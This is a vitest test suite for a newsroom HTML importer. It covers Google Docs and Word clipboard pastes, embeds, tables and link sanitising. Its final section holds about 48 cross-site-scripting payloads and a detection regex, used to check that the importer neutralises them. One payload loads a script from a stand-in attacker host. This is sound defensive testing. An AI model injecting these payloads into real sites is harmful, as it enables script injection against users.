import { readFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { htmlToBody, htmlToStory, importLinkUrl, resolveImages } from '../../shared/import/html';
import { restoreStory } from '../../shared/story/restore';
import type { SerializedBodyNode } from '../../shared/story/schema';
import { makePng } from '../fixtures/images';
import {
  allNodes,
  BOLD,
  expectCleanBody,
  flattenList,
  ITALIC,
  links,
  STRIKETHROUGH,
  SUBSCRIPT,
  SUPERSCRIPT,
  textOf,
  textsWith,
  UNDERLINE,
} from './support/body-nodes';

const CLIPBOARD = path.join(path.dirname(fileURLToPath(import.meta.url)), '../fixtures/clipboard');
const fixture = (name: string) => readFileSync(path.join(CLIPBOARD, name), 'utf8');
const NOW = new Date('2024-11-27T09:00:00.000Z');

function blocks(children: readonly SerializedBodyNode[]) {
  return children.map((c) => ({ type: c.type, text: textOf(c) }));
}

describe('Google Docs clipboard', () => {
  const result = htmlToBody(fixture('google-docs.html'));
  const { children } = result;

  it('is clean: no styles, classes or unknown nodes, and restoreBody accepts it', () => {
    expectCleanBody(children);
    expect(JSON.stringify(children)).not.toMatch(/font-|docs-internal|line-height|white-space|class/);
  });

  it('takes the leading <h1> as the headline and keeps blocks in order', () => {
    expect(result.headline).toBe('Council votes to close Waterworld pool');
    expect(blocks(children).map((b) => b.type)).toEqual(['paragraph', 'paragraph', 'heading', 'list', 'list', 'paragraph', 'paragraph']);
    expect(textOf(children[0]!)).toBe(
      'The Hamilton City Council voted on Thursday to close the pool, a decision the mayor called "painful but necessary".',
    );
    expect(textOf(children[1]!)).toBe('Repairs were never costed at $2 million $4.5 million, the 2nd estimate this year.');
    expect(children[2]).toMatchObject({ type: 'heading', tag: 'h2' });
    expect(textOf(children[2]!)).toBe('What happens next');
    expect(result.summary).toEqual({ tweets: 0, photos: 0, helplines: 0, pullquotes: 0, embeds: 0, paragraphs: 4, headings: 1, lists: 2 });
  });

  it('does not make the whole paste bold (the <b style="font-weight:normal"> wrapper)', () => {
    expect(textsWith(children, BOLD)).toEqual(['Hamilton City Council', 'redeployed']);
  });

  it('reads italic, underline, strikethrough and superscript from the spans’ styles', () => {
    expect(textsWith(children, ITALIC)).toEqual(['"painful but necessary"']);
    expect(textsWith(children, UNDERLINE)).toEqual(['never']);
    expect(textsWith(children, STRIKETHROUGH)).toEqual(['$2 million']);
    expect(textsWith(children, SUPERSCRIPT)).toEqual(['nd']);
  });

  it('keeps both lists with their nesting (a nested <ul> beside the items, as Docs writes it)', () => {
    expect(flattenList(children[3]!)).toEqual([
      { text: 'Swimming lessons move to Te Rapa', level: 0, ordered: false },
      { text: 'Buses run from the old site', level: 1, ordered: false },
      { text: 'Staff are redeployed', level: 0, ordered: false },
    ]);
    expect(flattenList(children[4]!)).toEqual([
      { text: 'Consultation opens', level: 0, ordered: true },
      { text: 'Online submissions', level: 1, ordered: true },
      { text: 'Council decides in March', level: 0, ordered: true },
    ]);
    // Lexical's convention: the nested list sits alone in an item after its parent item.
    const holder = children[3]!.children![1]!;
    expect(holder.children).toHaveLength(1);
    expect(holder.children![0]!.type).toBe('list');
    expect(children[3]!.children!.map((i) => i.value)).toEqual([1, 2, 2]);
  });

  it('unwraps Google’s redirect links and keeps mailto; link text is not underlined', () => {
    expect(links(children)).toEqual([
      { url: 'https://www.hamilton.govt.nz/council/reports/waterworld?page=2', text: 'council report' },
      { url: 'mailto:news@example.co.nz', text: 'the newsroom' },
    ]);
  });

  it('turns <br> into a line break inside the paragraph', () => {
    expect(textOf(children[6]!)).toBe('Line one\nLine two');
    expect(children[6]!.children!.map((c) => c.type)).toEqual(['text', 'linebreak', 'text']);
  });

  it('reads list levels from aria-level when Docs writes them as siblings', () => {
    const span = (t: string) =>
      `<span style="font-size:11pt;font-family:Arial,sans-serif;color:#000000;background-color:transparent;font-weight:400;font-style:normal;font-variant:normal;text-decoration:none;vertical-align:baseline;white-space:pre;white-space:pre-wrap;">${t}</span>`;
    const li = (level: number, t: string, type = 'disc') =>
      `<li dir="ltr" style="list-style-type:${type};font-size:11pt;font-family:Arial,sans-serif;" aria-level="${level}"><p dir="ltr" style="line-height:1.38;margin-top:0pt;margin-bottom:0pt;" role="presentation">${span(t)}</p></li>`;
    const html = `<meta charset="utf-8"><b style="font-weight:normal;" id="docs-internal-guid-5e6f7a8b-7fff-1c2d-3e4f-5a6b7c8d9e0f"><ul style="margin-top:0;margin-bottom:0;padding-inline-start:48px;">${li(1, 'One')}${li(2, 'One A', 'circle')}${li(3, 'One A i', 'square')}${li(1, 'Two')}</ul></b>`;
    const body = htmlToBody(html).children;
    expectCleanBody(body);
    expect(body).toHaveLength(1);
    expect(flattenList(body[0]!)).toEqual([
      { text: 'One', level: 0, ordered: false },
      { text: 'One A', level: 1, ordered: false },
      { text: 'One A i', level: 2, ordered: false },
      { text: 'Two', level: 0, ordered: false },
    ]);
    expect(textsWith(body, BOLD)).toEqual([]);
  });
});

describe('Google Docs HTML download (File → Download → Web page)', () => {
  const result = htmlToBody(fixture('google-docs-export.html'));
  const { children } = result;

  it('takes Title and Subtitle into headline and standfirst', () => {
    expect(result.headline).toBe('Budget 2025: what changes for you');
    expect(result.standfirst).toBe('Tax brackets move for the first time since 2010');
  });

  it('reads bold and italic from the class rules of its style sheet, in the sheet’s order', () => {
    expectCleanBody(children);
    expect(children.map((c) => c.type)).toEqual(['paragraph', 'heading', 'list', 'list']);
    expect(textOf(children[0]!)).toBe(
      'The Finance Minister announced a $3.7 billion package that she called “modest but real”. Read the Treasury’s summary.',
    );
    expect(textsWith(children, BOLD)).toEqual(['$3.7 billion', '2%']);
    expect(textsWith(children, ITALIC)).toEqual(['“modest but real”']);
    expect(textsWith(children, UNDERLINE)).toEqual([]);
    expect(links(children)).toEqual([{ url: 'https://www.treasury.govt.nz/publications/budget/2025', text: 'Treasury’s summary' }]);
  });

  it('joins the per-level sibling lists (lst-kix_…-0, -1) into one nested list; counters keep <ol> numbered', () => {
    expect(flattenList(children[2]!)).toEqual([
      { text: 'Income tax', level: 0, ordered: false },
      { text: 'Thresholds rise by 2%', level: 1, ordered: false },
      { text: 'Top rate unchanged', level: 1, ordered: false },
      { text: 'KiwiSaver', level: 0, ordered: false },
    ]);
    expect(flattenList(children[3]!)).toEqual([
      { text: 'Check your tax code', level: 0, ordered: true },
      { text: 'Update your budget', level: 0, ordered: true },
    ]);
  });
});

describe('Word clipboard', () => {
  const result = htmlToBody(fixture('word.html'));
  const { children } = result;

  it('is clean, and nothing of Word’s head, styles or conditional comments becomes text', () => {
    expectCleanBody(children);
    const all = children.map(textOf).join('\n');
    expect(all).not.toMatch(/mso-|font-family|@list|WordDocument|LatentStyles|StartFragment|Normal\b|OfficeDocumentSettings/);
    expect(JSON.stringify(children)).not.toMatch(/Mso|class/);
  });

  it('takes the Title style as the headline', () => {
    expect(result.headline).toBe('Flood warning for Wairoa');
    expect(allNodes(children).some((n) => textOf(n) === 'Flood warning for Wairoa')).toBe(false);
  });

  it('reads paragraphs, a heading and two lists in order; the empty paragraph goes', () => {
    expect(children.map((c) => c.type)).toEqual(['paragraph', 'heading', 'list', 'paragraph', 'list', 'paragraph']);
    expect(textOf(children[0]!)).toBe(
      'Civil Defence has issued a red warning for the Wairoa River catchment, and residents are urged to leave before dark. MetService says the worst is still to come.',
    );
    expect(children[1]).toMatchObject({ type: 'heading', tag: 'h1' });
    expect(textOf(children[1]!)).toBe('What to do');
  });

  it('keeps bold (<b>, font-weight:bold, despite mso-bidi-font-weight:normal), italic and underline', () => {
    expect(textsWith(children, BOLD)).toEqual(['red warning', 'MetService', 'still to come', 'animals']);
    expect(textsWith(children, ITALIC)).toEqual(['Wairoa River', 'still to come']);
    expect(textsWith(children, UNDERLINE)).toEqual(['urged to leave']);
  });

  it('rebuilds real nested lists from mso-list paragraphs: every level kept, markers removed', () => {
    expect(flattenList(children[2]!)).toEqual([
      { text: 'Pack a grab bag', level: 0, ordered: false },
      { text: 'Medicines and documents', level: 1, ordered: false },
      { text: 'Copies of insurance papers', level: 2, ordered: false },
      { text: 'Move animals to higher ground', level: 0, ordered: false },
    ]);
    expect(flattenList(children[4]!)).toEqual([
      { text: 'Turn off the power', level: 0, ordered: true },
      { text: 'At the mains', level: 1, ordered: true },
      { text: 'Go to the evacuation centre at the racecourse', level: 0, ordered: true },
    ]);
    const texts = allNodes(children)
      .filter((n) => n.type === 'text')
      .map((n) => String(n.text));
    for (const t of texts) expect(t).not.toMatch(/^[·o§]\s|^\d+\.\s|^a\.\s|\u00a0/);
  });

  it('keeps the links', () => {
    expect(links(children)).toEqual([
      { url: 'https://www.civildefence.govt.nz/get-ready/', text: 'evacuation centre' },
      { url: 'http://www.hbemergency.govt.nz/', text: 'hbemergency.govt.nz' },
    ]);
  });

  it('reads markers written as <!--[if !supportLists]--> comments, numbered starts, roman and lettered levels', () => {
    const item = (list: string, level: number, marker: string, text: string) =>
      `<p class=MsoListParagraphCxSpMiddle style='margin-left:${36 * level}.0pt;mso-add-space:auto;text-indent:-18.0pt;mso-list:${list} level${level} lfo${list === 'l0' ? 1 : 2}'><!--[if !supportLists]--><span lang=EN-GB><span style='mso-list:Ignore'>${marker}<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp;&nbsp; </span></span></span><!--[endif]--><span lang=EN-GB>${text}<o:p></o:p></span></p>\r\n`;
    const html = [
      item('l0', 1, '3.', 'Third'),
      item('l0', 2, 'a)', 'Third a'),
      item('l0', 3, 'i.', 'Third a i'),
      item('l0', 3, 'ii.', 'Third a ii'),
      item('l0', 1, '4.', 'Fourth'),
      // A different list (lfo2) straight after: a bullet list of its own.
      item('l1', 1, '-', 'Dash'),
    ].join('');
    const body = htmlToBody(html).children;
    expectCleanBody(body);
    expect(body).toHaveLength(2);
    expect(body[0]).toMatchObject({ type: 'list', listType: 'number', start: 3 });
    expect(flattenList(body[0]!)).toEqual([
      { text: 'Third', level: 0, ordered: true },
      { text: 'Third a', level: 1, ordered: true },
      { text: 'Third a i', level: 2, ordered: true },
      { text: 'Third a ii', level: 2, ordered: true },
      { text: 'Fourth', level: 0, ordered: true },
    ]);
    expect(body[0]!.children!.map((i) => i.value)).toEqual([3, 4, 4]);
    expect(flattenList(body[1]!)).toEqual([{ text: 'Dash', level: 0, ordered: false }]);
  });

  it('keeps a level that was skipped (level 1 → level 3)', () => {
    const html = `<p class=MsoListParagraphCxSpFirst style='mso-list:l0 level1 lfo1'><span style='mso-list:Ignore'>·</span>Top</p>
<p class=MsoListParagraphCxSpLast style='mso-list:l0 level3 lfo1'><span style='mso-list:Ignore'>§</span>Deep</p>`;
    const body = htmlToBody(html).children;
    expectCleanBody(body);
    expect(flattenList(body[0]!)).toEqual([
      { text: 'Top', level: 0, ordered: false },
      { text: 'Deep', level: 2, ordered: false },
    ]);
  });
});

describe('newsroom blocks in HTML', () => {
  const tweet = `<blockquote class="twitter-tweet"><p lang="en" dir="ltr">Thank you, New Zealand <a href="https://t.co/AbCdEf">pic.twitter.com/AbCdEf</a></p>&mdash; Jacinda Ardern (@jacindaardern) <a href="https://twitter.com/jacindaardern/status/1321234567890123456?ref_src=twsrc%5Etfw">October 28, 2020</a></blockquote> <script async src="https://platform.twitter.com/widgets.js" charset="utf-8"></script>`;
  const figure = `<figure class="photo"><img src="https://images.example.co.nz/pool.jpg" alt="The closed pool" width="1200" height="800"><figcaption>The pool closed in June. <span class="credit">Photo / Supplied</span></figcaption></figure>`;
  const helpline = `<aside class="helpline"><h2>Where to get help:</h2><ul><li>Samaritans: call <a href="tel:116123">116 123</a>, free, any time</li><li>In an emergency, call <a href="tel:999">999</a></li></ul></aside>`;

  it('turns Twitter’s embed code, our figure and the helpline aside into the three blocks (no script)', () => {
    const { children } = htmlToBody(`<p>Before.</p>${tweet}${figure}${helpline}<p>After.</p>`);
    expectCleanBody(children);
    expect(children.map((c) => c.type)).toEqual(['paragraph', 'tweet', 'photo', 'helpline', 'paragraph']);
    expect(children[1]).toMatchObject({
      tweetId: '1321234567890123456',
      handle: 'jacindaardern',
      name: 'Jacinda Ardern',
      date: 'October 28, 2020',
      url: 'https://twitter.com/jacindaardern/status/1321234567890123456',
      lang: 'en',
    });
    expect(children[2]).toMatchObject({
      src: 'https://images.example.co.nz/pool.jpg',
      alt: 'The closed pool',
      caption: 'The pool closed in June.',
      credit: 'Supplied',
      asset: '',
    });
    expect(children[3]).toMatchObject({ presetId: 'uk', heading: 'Where to get help:' });
    expect(JSON.stringify(children)).not.toContain('widgets.js');
  });

  it('lifts blocks found inside paragraphs, quotes, lists and tables to the top level, in order', () => {
    const html = `<div><p>One <img src="https://images.example.co.nz/a.jpg" alt="A"> two</p><blockquote><p>Quoted</p>${tweet}</blockquote><ol><li>First</li><li>Second${figure}</li><li>Third</li></ol><table><tr><td>Cell</td><td>${helpline}</td></tr></table></div>`;
    const { children } = htmlToBody(html);
    expectCleanBody(children);
    expect(blocks(children)).toEqual([
      { type: 'paragraph', text: 'One' },
      { type: 'photo', text: '' },
      { type: 'paragraph', text: 'two' },
      { type: 'quote', text: 'Quoted' },
      { type: 'tweet', text: '' },
      { type: 'list', text: 'FirstSecond' },
      { type: 'photo', text: '' },
      { type: 'list', text: 'Third' },
      { type: 'paragraph', text: 'Cell |' },
      { type: 'helpline', text: '' },
    ]);
    // The numbered list goes on counting after the photo.
    expect(children[7]).toMatchObject({ listType: 'number', start: 3 });
  });

  it('reports images without an https link (data: URIs, files) for the caller to make assets', () => {
    const png = makePng(4, 3).toString('base64');
    const html = `<p>Intro</p><figure><img src="data:image/png;base64,${png}" alt="Chart"><figcaption>Rates rise. Photo / NZME</figcaption></figure><p><img src="file:///C:/Users/me/clip_image001.png" alt="Clip"></p><p><img src="http://insecure.example.com/x.jpg"></p>`;
    const result = htmlToBody(html);
    expectCleanBody(result.children);
    expect(result.children.map((c) => c.type)).toEqual(['paragraph', 'photo', 'photo', 'photo']);
    expect(result.images).toEqual([
      { index: 1, src: `data:image/png;base64,${png}`, alt: 'Chart', caption: 'Rates rise.', credit: 'NZME' },
      { index: 2, src: 'file:///C:/Users/me/clip_image001.png', alt: 'Clip', caption: '', credit: '' },
      { index: 3, src: 'http://insecure.example.com/x.jpg', alt: '', caption: '', credit: '' },
    ]);
    for (const image of result.images) expect(result.children[image.index]).toMatchObject({ type: 'photo', src: '', asset: '' });

    const key = 'a'.repeat(64);
    const resolved = resolveImages(result.children, result.images, (image) => (image.src.startsWith('data:') ? key : null));
    expect(resolved.children.map((c) => c.type)).toEqual(['paragraph', 'photo']);
    expect(resolved.children[1]).toMatchObject({ asset: key, caption: 'Rates rise.', credit: 'NZME' });
    expect(resolved.dropped.map((d) => d.index)).toEqual([2, 3]);
  });

  it('keeps emoji images as their characters and skips tracking pixels', () => {
    const { children, images } = htmlToBody(
      `<p>Great <img class="emoji" alt="🎉" src="https://abs.twimg.com/emoji/v2/72x72/1f389.png"> news<img src="https://t.example.com/p.gif" width="1" height="1"></p>`,
    );
    expect(blocks(children)).toEqual([{ type: 'paragraph', text: 'Great 🎉 news' }]);
    expect(images).toEqual([]);
  });
});

describe('tables, whitespace and other markup', () => {
  it('turns each table row into a paragraph with cells joined by " | " (no table node; no text lost)', () => {
    const html = `<table><caption>Results</caption><thead><tr><th>Candidate</th><th>Votes</th></tr></thead><tbody><tr><td><p>Smith</p></td><td><b>1,204</b></td></tr><tr><td>Jones</td><td></td></tr><tr><td></td><td></td></tr></tbody></table>`;
    const { children } = htmlToBody(html);
    expectCleanBody(children);
    expect(blocks(children)).toEqual([
      { type: 'paragraph', text: 'Results' },
      { type: 'paragraph', text: 'Candidate | Votes' },
      { type: 'paragraph', text: 'Smith | 1,204' },
      { type: 'paragraph', text: 'Jones |' },
    ]);
    expect(textsWith(children, BOLD)).toEqual(['1,204']);
  });

  it('reads a one-column layout table as ordinary blocks', () => {
    const { children } = htmlToBody(`<table><tr><td><h2>Story</h2><p>First.</p><p>Second.</p></td></tr></table>`);
    expect(blocks(children)).toEqual([
      { type: 'heading', text: 'Story' },
      { type: 'paragraph', text: 'First.' },
      { type: 'paragraph', text: 'Second.' },
    ]);
  });

  it('collapses whitespace like a browser, keeps &nbsp; as a space, drops empty paragraphs', () => {
    const html = `<p>\n  Two   spaces\tand\na <b> bold </b> word&nbsp;&nbsp;here  </p><p> &nbsp; </p><p></p><div>   </div><p>Para<br><br>graph<br></p><pre>keep   these\n  lines</pre>`;
    const { children } = htmlToBody(html);
    expectCleanBody(children);
    expect(blocks(children)).toEqual([
      { type: 'paragraph', text: 'Two spaces and a bold word  here' },
      { type: 'paragraph', text: 'Para' },
      { type: 'paragraph', text: 'graph' },
      { type: 'paragraph', text: 'keep   these\nlines' },
    ]);
    expect(textsWith(children, BOLD)).toEqual(['bold ']);
  });

  it('maps headings, quotes, sub/superscript and code; unknown tags keep their text', () => {
    const html = `<h3>Sub</h3><h5>Small</h5><blockquote><p>One</p><p>Two</p></blockquote><p>H<sub>2</sub>O and E=mc<sup>2</sup>, run <code>npm test</code>, <custom-tag>custom</custom-tag> <font color=red>font</font> <span style="font-weight:bold;font-style:italic">both</span></p>`;
    const { children } = htmlToBody(html);
    expectCleanBody(children);
    expect(children.map((c) => [c.type, c.tag ?? '', textOf(c)])).toEqual([
      ['heading', 'h3', 'Sub'],
      ['heading', 'h5', 'Small'],
      ['quote', '', 'One'],
      ['quote', '', 'Two'],
      ['paragraph', '', 'H2O and E=mc2, run npm test, custom font both'],
    ]);
    expect(textsWith(children, SUBSCRIPT)).toEqual(['2']);
    expect(textsWith(children, SUPERSCRIPT)).toEqual(['2']);
    expect(textsWith(children, 16)).toEqual(['npm test']);
    expect(textsWith(children, BOLD | ITALIC)).toEqual(['both']);
    const both = allNodes(children).find((n) => n.text === 'both')!;
    expect(both.format).toBe(BOLD | ITALIC);
  });

  it('drops links it may not carry but keeps their text', () => {
    const html = `<p><a href="/relative">rel</a> <a href="#anchor">anchor</a> <a href="ftp://files.example.com/x">ftp</a> <a href="https://ok.example.com/a b">spaced</a> <a name="_Toc1">toc</a> <a href="tel:+6491234567">call</a></p>`;
    const { children } = htmlToBody(html);
    expectCleanBody(children);
    expect(textOf(children[0]!)).toBe('rel anchor ftp spaced toc call');
    expect(links(children)).toEqual([
      { url: 'https://ok.example.com/a%20b', text: 'spaced' },
      { url: 'tel:+6491234567', text: 'call' },
    ]);
  });

  it('unwraps redirect links only to safe targets', () => {
    expect(importLinkUrl('https://www.google.com/url?q=https://example.com/x%3Fa%3D1&sa=D')).toBe('https://example.com/x?a=1');
    expect(importLinkUrl('https://www.google.com/url?q=javascript:alert(1)&sa=D')).toBeNull();
    expect(importLinkUrl('https://nam02.safelinks.protection.outlook.com/?url=https%3A%2F%2Fexample.com%2F&data=x')).toBe(
      'https://example.com/',
    );
    expect(importLinkUrl('https://www.google.com/search?q=x')).toBe('https://www.google.com/search?q=x');
  });

  it('reads deeply nested markup without overflowing the stack', () => {
    const depth = 6_000; // 12,000 levels: far past what recursion would survive
    const html = `${'<div><span>'.repeat(depth)}deep${'</span></div>'.repeat(depth)}<p>after</p>`;
    const { children } = htmlToBody(html);
    expect(blocks(children)).toEqual([
      { type: 'paragraph', text: 'deep' },
      { type: 'paragraph', text: 'after' },
    ]);
  });
});

describe('htmlToStory', () => {
  it('fills the headline from <title> and the standfirst from a subtitle paragraph', () => {
    const html = `<!doctype html><html><head><title>Pool to close</title><style>p{color:red}</style></head><body><p class="subtitle">Council vote ends 40 years of swimming</p><p>Body text.</p></body></html>`;
    const { story, summary } = htmlToStory(html, { id: 'h-1', now: NOW });
    expect(story.meta.headline).toBe('Pool to close');
    expect(story.meta.standfirst).toBe('Council vote ends 40 years of swimming');
    expect(blocks(story.body.root.children)).toEqual([{ type: 'paragraph', text: 'Body text.' }]);
    expect(summary.paragraphs).toBe(1);
    const restored = restoreStory(JSON.parse(JSON.stringify(story)));
    expect(restored.ok).toBe(true);
  });

  it('keeps images the caller turns into assets, leaves out the rest with a warning', () => {
    const png = makePng(5, 4);
    const key = 'b'.repeat(64);
    const asset = { mime: 'image/png' as const, name: 'chart.png', width: 5, height: 4, bytes: png.length, data: png.toString('base64') };
    const html = `<p>Text</p><img src="data:image/png;base64,${png.toString('base64')}" alt="Chart"><figure><img src="Story_files/image002.emz"><figcaption>Lost image caption</figcaption></figure>`;
    const { story, warnings } = htmlToStory(html, {
      id: 'h-2',
      now: NOW,
      assets: { [key]: asset },
      assetFor: (image) => (image.src.startsWith('data:image/png') ? key : null),
    });
    expect(story.body.root.children.map((c) => c.type)).toEqual(['paragraph', 'photo', 'paragraph']);
    expect(story.body.root.children[1]).toMatchObject({ asset: key, alt: 'Chart', src: '' });
    expect(textOf(story.body.root.children[2]!)).toBe('Lost image caption');
    expect(Object.keys(story.assets)).toEqual([key]);
    expect(warnings).toHaveLength(1);
    expect(warnings[0]).toMatch(/1 image was left out.*Story_files\/image002\.emz/);
    expect(restoreStory(JSON.parse(JSON.stringify(story))).ok).toBe(true);
  });

  it('gives an empty story a single empty paragraph (as a new story has)', () => {
    const { story } = htmlToStory('<script>x</script>', { id: 'h-3', now: NOW });
    expect(story.body.root.children).toHaveLength(1);
    expect(restoreStory(JSON.parse(JSON.stringify(story))).ok).toBe(true);
  });
});

describe('hostile HTML', () => {
  const PAYLOADS = [
    `<script>alert(1)</script>`,
    `<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>`,
    `<img src=x onerror=alert(1)>`,
    `<img src="javascript:alert(1)">`,
    `<img src="data:text/html,<script>alert(1)</script>">`,
    `<a href="javascript:alert(1)">click</a>`,
    `<a href="JaVaScRiPt:alert(1)">click</a>`,
    `<a href="&#106;avascript:alert(1)">click</a>`,
    `<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">click</a>`,
    `<a href=" javascript:alert(1)">click</a>`,
    `<a href="java&#x09;script:alert(1)">click</a>`,
    `<a href="java\nscript:alert(1)">click</a>`,
    `<a href="javascript&colon;alert(1)">click</a>`,
    `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>`,
    `<a href="vbscript:msgbox(1)">click</a>`,
    `<a href="https://www.google.com/url?q=javascript:alert(1)&sa=D">click</a>`,
    `<a href="https://example.com/&quot;onmouseover=&quot;alert(1)">click</a>`,
    `<a href="https://example.com/" onclick="alert(1)">safe link</a>`,
    `<svg onload=alert(1)><title>alert</title></svg>`,
    `<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
    `<math href="javascript:alert(1)">CLICKME</math>`,
    `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
    `<iframe src="javascript:alert(1)"></iframe>`,
    `<form action="javascript:alert(1)"><input type=submit value="alert"><button formaction="javascript:alert(1)">alert</button></form>`,
    `<object data="javascript:alert(1)"></object>`,
    `<embed src="javascript:alert(1)">`,
    `<base href="javascript:alert(1)//"><a href="/x">relative</a>`,
    `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
    `<link rel=stylesheet href="javascript:alert(1)">`,
    `<p style="background:url(javascript:alert(1))">styled</p>`,
    `<div style="width: expression(alert(1))">css expression</div>`,
    `<div style="behavior: url(xss.htc); -moz-binding: url(xss.xml#xss)">binding</div>`,
    `<p onclick="alert(1)" onmouseover="alert(1)">hover</p>`,
    `<body onload=alert(1)>body</body>`,
    `<details open ontoggle=alert(1)><summary>s</summary>d</details>`,
    `<!--<script>alert(1)</script>-->`,
    `<![CDATA[<script>alert(1)</script>]]>`,
    `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
    `<style>@import 'javascript:alert(1)';</style>`,
    `<template><script>alert(1)</script></template>`,
    `<xmp><script>alert(1)</script></xmp>`,
    `<table background="javascript:alert(1)"><tr><td>cell</td><td>two</td></tr></table>`,
    `<blockquote class="twitter-tweet"><p>hi</p><a href="javascript:alert(1)">June 1, 2020</a></blockquote>`,
    `<figure><img src="javascript:alert(1)"><figcaption onmouseover=alert(1)>cap</figcaption></figure>`,
    `<aside class="helpline"><h2>Help</h2><ul><li><a href="javascript:alert(1)">Call us</a></li></ul></aside>`,
    `<a href="javascript:alert(1)"><img src=x></a>`,
    `<isindex action="javascript:alert(1)" type=image>`,
  ];
  const BAD = /alert|javascript|vbscript|onerror|onload|onclick|<script|expression\(|data:text|-moz-binding|behavior/i;

  it(`has ${PAYLOADS.length} payloads`, () => expect(PAYLOADS.length).toBeGreaterThanOrEqual(40));

  for (const payload of PAYLOADS) {
    it(`neutralises ${payload.slice(0, 70)}`, () => {
      const html = `<p>Before</p>${payload}<p>After</p>`;
      const { children } = htmlToBody(html);
      expectCleanBody(children);
      // Text and fields carry no script, handler or unsafe scheme; links are checked above.
      for (const node of allNodes(children)) {
        for (const [key, value] of Object.entries(node)) {
          if (key === 'url' && node.type === 'link') continue;
          if (typeof value === 'string') expect(value, `${node.type}.${key}`).not.toMatch(BAD);
        }
      }
      for (const link of links(children)) expect(link.url).not.toMatch(/^(javascript|vbscript|data):/i);
      const texts = children.map(textOf);
      expect(texts[0]).toBe('Before');
      // An unclosed <style> swallows the rest of the document, in browsers too.
      if (!payload.includes('<mglyph><style>')) expect(texts.at(-1)).toBe('After');

      const { story } = htmlToStory(html, { id: 'x', now: NOW });
      const restored = restoreStory(JSON.parse(JSON.stringify(story)));
      expect(restored.ok ? 'ok' : restored.reason).toBe('ok');
    });
  }
});
